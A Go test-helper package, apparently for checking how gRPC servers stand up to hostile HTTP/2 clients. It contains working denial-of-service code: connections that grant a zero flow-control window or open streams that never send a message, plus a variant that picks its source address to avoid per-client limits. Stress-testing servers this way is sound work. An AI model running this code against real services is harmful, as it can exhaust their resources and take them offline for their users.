// Package h2attack is a hostile HTTP/2 peer for tests and benchmarks: a
// client that grants no flow-control window, and one whose calls send no
// message.
package h2attack

import (
	"bytes"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// ZeroWindowGRPC opens conns cleartext HTTP/2 connections to addr that
// grant no flow-control window (SETTINGS_INITIAL_WINDOW_SIZE = 0) and
// sends calls unary gRPC calls to method on each (headers, an empty
// message, END_STREAM), then reads and drops every frame and never opens
// a window. It returns a func that closes the connections.
func ZeroWindowGRPC(addr, method string, conns, calls int) (stop func(), err error) {
	return grpcCalls(&net.Dialer{}, addr, method, conns, calls, true)
}

// ZeroWindowGRPCFrom is ZeroWindowGRPC from the local address src (a
// loopback address other than the victim's callers', say).
func ZeroWindowGRPCFrom(src net.IP, addr, method string, conns, calls int) (stop func(), err error) {
	return grpcCalls(&net.Dialer{LocalAddr: &net.TCPAddr{IP: src}}, addr, method, conns, calls, true)
}

// MessagelessGRPC opens conns cleartext HTTP/2 connections to addr and
// starts calls gRPC calls to method on each that send their headers and
// nothing else (no message, no END_STREAM), reading and dropping every
// frame. It returns a func that closes the connections.
func MessagelessGRPC(addr, method string, conns, calls int) (stop func(), err error) {
	return grpcCalls(&net.Dialer{}, addr, method, conns, calls, false)
}

// grpcCalls opens the connections: with zeroWindow, no flow-control
// window and unary calls (an empty message, END_STREAM); without, the
// default window and headers only.
func grpcCalls(d *net.Dialer, addr, method string, conns, calls int, zeroWindow bool) (stop func(), err error) {
	var cs []net.Conn
	stop = func() {
		for _, c := range cs {
			c.Close()
		}
	}
	for range conns {
		c, err := d.Dial("tcp", addr)
		if err != nil {
			stop()
			return nil, err
		}
		cs = append(cs, c)
		if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
			stop()
			return nil, err
		}
		fr := http2.NewFramer(c, c)
		if zeroWindow {
			fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		} else {
			fr.WriteSettings()
		}
		for i := range calls {
			var hb bytes.Buffer
			enc := hpack.NewEncoder(&hb)
			for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", addr}, {":path", method},
				{"content-type", "application/grpc"}, {"te", "trailers"}} {
				enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
			}
			id := uint32(2*i + 1)
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true})
			if zeroWindow {
				fr.WriteData(id, true, []byte{0, 0, 0, 0, 0})
			}
		}
		go func() {
			for {
				f, err := fr.ReadFrame()
				if err != nil {
					return
				}
				if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
					fr.WriteSettingsAck()
				}
			}
		}()
	}
	return stop, nil
}
